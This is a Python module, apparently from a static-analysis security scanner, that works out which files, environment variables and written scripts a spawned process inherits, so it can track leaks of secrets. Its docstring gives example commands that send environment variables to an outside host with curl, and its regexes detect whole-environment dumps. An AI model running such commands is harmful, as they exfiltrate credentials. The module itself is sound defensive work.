"""Processes that a program starts: what they get besides their command line, and the scripts that they run.

A process gets the whole environment. It sends what its command names of it (`curl https://c.example/$KEY`), and all of
it where the command asks for all (`env | curl -d @- ...`). The text of a script that the program wrote itself is read
as a part of the command that runs it.
"""

from __future__ import annotations

import re

from scanner.analysis.evaluator import Evaluator
from scanner.analysis.handlers import sorted_items
from scanner.analysis.keeping import ALL_VARIABLES, SCRIPT, credentials, kept_under
from scanner.analysis.templates import FIRST_PRIVATE, is_known
from scanner.analysis.values import NOTHING, Val, join_all

_HOLE = f"{FIRST_PRIVATE}-\U0010ffff"
_PATH = re.compile(
    "(?<![^\\s'\"=<>|;&])[^\\s'\"=<>|;&/\ue000-\uf8ff\U000f0000-\U0010ffff]*+"
    "[/\ue000-\uf8ff\U000f0000-\U0010ffff][^\\s'\"=<>|;&]++"
)
"""What can be a path in a command line: it has a slash in it, or a part of which nothing is known."""
_NAME = re.compile(r"[A-Za-z_]\w{0,60}")
_ALL_OF_IT = re.compile(
    r"(?<![\w./$-])(?:/usr/bin/)?(?:env|printenv|export|declare|typeset|compgen)(?![\w./=-])(?!\s+-?\w+=)|\benviron\b|(?:^|[;&|(]\s*)set\s*(?:[;&|>]|$)"
    rf"|process\.env\b(?!\.\w)|%ENV\b|ENV\.(?:to_|each)|\bgetenv\(\s*\)|\$_ENV\b|\$\{{?[A-Za-z_]?\w*[{_HOLE}]|\$\{{!"
)
"""What asks for the whole environment, in a shell or another language, or for a variable of a name nobody knows."""
_RUNNERS = r"(?:ba|da|z|k|a)?sh|php[\d.]*|python[\d.]*|perl|ruby|node|source|\."
_RUN = re.compile(
    rf"(?:^|[;&|(`]\s*|\b(?:nohup|sudo|exec|time)\s+)(?:[\w/.-]*(?:{_RUNNERS})\s+(?:-\w+\s+)*)?([^\s'\"=<>|;&]+)"
)
"""A script that a command runs: by its path alone, or by an interpreter."""
_MAX_COMMAND = 2_000
_MAX_WORDS = 12
_MAX_NAMES = 60
_MAX_TEXTS = 8


def inherited(evaluator: Evaluator, command: Val) -> Val:
    """What a process gets besides its command line: files that this names, variables of the environment."""
    texts = [text[:_MAX_COMMAND] for text in _texts(command)]
    words = {word for text in texts if "/" in text or not is_known(text) for word in _PATH.findall(text)}
    words |= {word.removeprefix("@") for word in words}
    held = [kept_under(evaluator, "file", Val(frozenset([word]))) for word in sorted(words)[:_MAX_WORDS]]
    held += [credentials(evaluator, word) for word in sorted(words)[:_MAX_WORDS]]
    held.append(_environment(evaluator, [*texts, *_texts(scripts(evaluator, command))]))
    return join_all(held, evaluator.state.overflow)


def _environment(evaluator: Evaluator, texts: list[str]) -> Val:
    """Of the environment, what some commands name, or all of it."""
    everything = evaluator.join(evaluator.state.read_store(ALL_VARIABLES), evaluator.kept.get(ALL_VARIABLES, NOTHING))
    if not everything.labels:
        return NOTHING
    if any(_ALL_OF_IT.search(text) for text in texts):
        return everything
    names = {name for text in texts for name in _NAME.findall(text)}
    return join_all(
        (kept_under(evaluator, "env", Val(frozenset([name]))) for name in sorted(names)[:_MAX_NAMES]),
        evaluator.state.overflow,
    )


def scripts(evaluator: Evaluator, command: Val) -> Val:
    """Texts of the scripts that a command runs and that the program wrote: they are commands, too."""
    texts = [text[:_MAX_COMMAND] for text in _texts(command)]
    texts.append(" ".join(texts))  # `['sh', '/tmp/x.sh']`
    paths = sorted({path for text in texts for path in _RUN.findall(text)})[:_MAX_WORDS]
    found = {text for path in paths for text in _script(evaluator, path).texts}
    return Val(frozenset(sorted(found)[:_MAX_TEXTS])) if found else NOTHING


def _script(evaluator: Evaluator, path: str) -> Val:
    key = (SCRIPT, path)
    return evaluator.join(evaluator.state.read_store(key), evaluator.kept.get(key, NOTHING))


def _texts(command: Val) -> list[str]:
    """Texts of a command, and of the words of one that is a list."""
    return [text for value in (command, *sorted_items(command)[:_MAX_WORDS]) for text in sorted(value.texts)]
